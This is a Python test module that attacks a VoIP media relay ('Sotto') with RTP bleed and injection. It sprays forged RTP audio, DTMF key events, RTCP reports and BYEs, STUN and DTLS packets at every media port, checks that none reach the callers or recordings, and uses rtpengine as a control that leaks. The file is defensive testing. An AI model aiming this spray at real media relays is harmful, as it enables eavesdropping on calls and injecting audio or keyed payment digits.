"""RTP bleed and inject: third addresses spray all media ports before, during and after a call.

They know everything but the address: ports, payload types, sequence numbers. What they want is
the parties' media, to be heard or recorded, or to key a digit. Sotto must give them nothing;
Debian's rtpengine, as it comes, is the control that shows that the spray works.
"""

import multiprocessing
import socket
import struct
import time

import baresip
import checks
import g711
import ng
import party
import rtp
import sotto
import wire

PORTS = (10000, 10063)
SOURCES = ["127.0.0.2", "127.0.0.3", "127.0.0.4", "127.0.0.1"]
FRAME = b"\x66" * g711.FRAME
KEY = "6"
CYCLE = 0.1  # seconds between two sprays of everything


def datagrams(turn):
    """One of each kind that a media port might believe."""
    ssrc = 0x66666666
    cname = struct.pack(">BBHIBB", 0x81, 202, 3, ssrc, 1, 4) + b"evil\0\0"
    report = struct.pack(">BBHIQIII", 0x80, 200, 6, ssrc, turn, turn * 160, turn, turn * 160)
    bye = struct.pack(">BBHI", 0x81, 203, 1, ssrc)
    stun = struct.pack(">HHI12s", 1, 0, 0x2112A442, b"sotto-attack")
    random = bytes((turn * 31 + at * 7) % 256 for at in range(41))
    hello = b"\x16\xfe\xff" + bytes(8) + struct.pack(">H", len(random) + 1) + b"\x01" + random
    return [
        rtp.write(0, turn, turn * 160, ssrc, FRAME),
        rtp.write(8, turn, turn * 160, ssrc, FRAME),
        rtp.write(rtp.EVENT_TYPE, turn, turn * 800, ssrc, rtp.event(KEY, 800), marker=True),
        rtp.write(rtp.EVENT_TYPE, turn + 1, turn * 800, ssrc, rtp.event(KEY, 960, end=True)),
        report + cname,
        report + cname + bye,
        stun,
        hello,
    ]


def spray(stopped, outcome):
    """Sends everything to every port, and counts what comes back, until stopped."""
    attackers = []
    for source in SOURCES:
        attacker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        attacker.bind((source, 0))
        attacker.setblocking(False)
        attackers.append(attacker)
    sent = received = turn = 0
    due = time.time()
    while not stopped.is_set():
        turn += 1
        for datagram in datagrams(turn):
            for attacker in attackers:
                for port in range(PORTS[0], PORTS[1] + 1):
                    sent += send(attacker, datagram, (sotto.MEDIA, port))
            received += sum(map(drain, attackers))
        due = max(due + CYCLE, time.time())
        time.sleep(max(0, due - time.time()))
    time.sleep(0.2)
    outcome.put((sent, received + sum(map(drain, attackers))))


def send(attacker, datagram, target):
    """1 if it was sent; an ICMP error of an earlier one is not this one's."""
    try:
        attacker.sendto(datagram, target)
        return 1
    except OSError:
        return 0


def drain(attacker):
    """How many packets have come to an attacker."""
    count = 0
    while True:
        try:
            attacker.recv(2048)
            count += 1
        except BlockingIOError:
            return count
        except OSError:
            continue  # an ICMP error: the port is closed


class Spray:
    """The attackers at work, in a process of their own."""

    def __enter__(self):
        self._stopped, self._outcome = multiprocessing.Event(), multiprocessing.Queue()
        arguments = (self._stopped, self._outcome)
        self._process = multiprocessing.Process(target=spray, args=arguments, daemon=True)
        self._process.start()
        time.sleep(0.5)
        return self

    def __exit__(self, *_):
        self._stopped.set()
        self.sent, self.received = self._outcome.get(timeout=20)
        self._process.join()
        checks.expect(self.sent > 5000, f"a spray, not {self.sent} packets")


def delivered(parties):
    """Packets that a party got and that are the attackers', or come from somewhere else."""
    count = 0
    for one in parties:
        strange = [packet for packet in one.heard if packet.source != one.target]
        count += len(strange) + sum(FRAME[:80] in packet.payload for packet in one.heard)
        count += sum(packet.payload_type == rtp.EVENT_TYPE for packet in one.heard)
        count += sum(b"evil" in report for _, report, _ in one.reports)
    return count


def talk(caller, engine, middle):
    """Engine alone, then both, then `middle`, while the attackers spray."""
    engine.start()
    time.sleep(1)
    caller.start()
    time.sleep(1)
    middle()


def plain(binary):
    """A call over plain RTP, with a secure session in it."""
    caller, engine = party.Caller("attacked"), party.Engine()
    with sotto.Sotto(binary, PORTS, trace=False) as relay, wire.Capture() as capture:
        with Spray() as attack:
            call = relay.open_call(sotto.offer(caller), engine.address)
            caller.target, engine.target = call.caller_port, call.engine_port
            progress = []

            def pay():
                call.enter()
                time.sleep(1)  # the attackers' keys alone
                progress.append(call.session()["progress"])
                caller.press(sotto.KEYS)
                progress.append(call.wait_for("ended")["result"])
                time.sleep(0.5)

            talk(caller, engine, pay)
            drops = call.do("GET")["legs"]["caller"]["drops"]
            call.close()
            time.sleep(0.5)
        caller.stop()
        engine.stop()
        recorded = recorded_frames(call)
    injected = delivered([caller, engine])
    checks.equal(progress[1], "pass", "verdict of the caller's own keys")
    report("plain RTP", attack, injected, recorded, progress[0])
    checks.equal(
        (attack.received, injected, recorded, progress[0]), (0, 0, 0, 0), "what got through"
    )
    checks.expect(drops["unknown_peer"] > 100, f"strangers turned away, not {drops}")
    checks.expect(len(engine.heard) > 100 and len(caller.heard) > 100, "media both ways")
    signalled = {(host, port + rtcp) for host, port in (caller.address, engine.address)
                 for rtcp in (0, 1)}  # fmt: skip
    octets, targets = capture.sent_elsewhere(PORTS, signalled)
    checks.figure(f"bytes sent to an address that was not signalled or proven: {octets}")
    checks.equal((octets, targets), (0, set()), "bytes sent elsewhere")


def srtp(binary):
    """A call of baresip's over SRTP, with a secure session in it."""
    with Spray() as attack, baresip.Payment(binary, "SRTP", ports=PORTS) as payment:
        payment.enter()
        time.sleep(1)
        progress = payment.call.session()["progress"]
        payment.phone.press(sotto.KEYS)
        payment.end("pass")
        recorded = recorded_frames(payment.call)
        checks.wait_until(payment.phone.heard, 3, "what the phone heard")
        noise = g711.encode(payment.phone.heard()).count(FRAME[:80])
    injected = delivered([payment.dialog.engine]) + noise
    report("SRTP", attack, injected, recorded, progress)
    checks.equal((attack.received, injected, recorded, progress), (0, 0, 0, 0), "what got through")


def control():
    """The same spray on a plain call through rtpengine, which lets the attackers in."""
    caller, engine = party.Caller("attacked"), party.Engine()
    with ng.Rtpengine(PORTS) as relay, Spray() as attack:
        caller.target, engine.target = relay.open_call(caller, engine)
        talk(caller, engine, lambda: time.sleep(1))
        relay.close_call()
        caller.stop()
        engine.stop()
    injected = delivered([caller, engine])
    report("rtpengine", attack, injected, "-", "-")
    checks.expect(attack.received > 0 and injected > 0, "a leak of the control, both ways")


def recorded_frames(call):
    """How often the attackers' audio is in a recording."""
    return sum(g711.encode(channel).count(FRAME[:80]) for channel in call.recording())


def report(what, attack, injected, recorded, keyed):
    """Prints what the attackers achieved."""
    checks.figure(
        f"{what}: {attack.sent} packets sprayed; attackers received {attack.received}, parties "
        f"were delivered {injected}, recorded {recorded}, counted as digits {keyed}"
    )
